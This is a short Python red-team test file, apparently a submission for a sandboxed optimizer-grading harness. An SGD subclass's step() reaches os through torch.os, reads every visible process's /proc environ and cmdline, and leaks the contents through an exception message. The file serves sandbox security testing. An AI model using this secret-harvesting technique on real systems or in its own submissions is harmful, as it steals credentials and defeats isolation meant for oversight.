"""Red team (secret theft): reads every process's environ and cmdline it can see."""
import torch

ENGINE_PID = 0  # filled in by tests/test_redteam.py
PORT = 0
MARKER = "/tmp/synth-redteam-marker"
SECRET_FILE = "/tmp/synth-redteam-secret"


class Submission(torch.optim.SGD):
    def __init__(self, params):
        super().__init__(params, lr=0.05)

    @torch.no_grad()
    def step(self, closure=None):
        os = torch.os
        seen = []
        for pid in os.listdir("/proc"):
            for what in ("environ", "cmdline"):
                try:
                    seen.append(open(f"/proc/{pid}/{what}", "rb").read().decode(errors="replace"))
                except OSError:
                    pass
        raise RuntimeError("seen=" + " ".join(seen))
        return super().step()
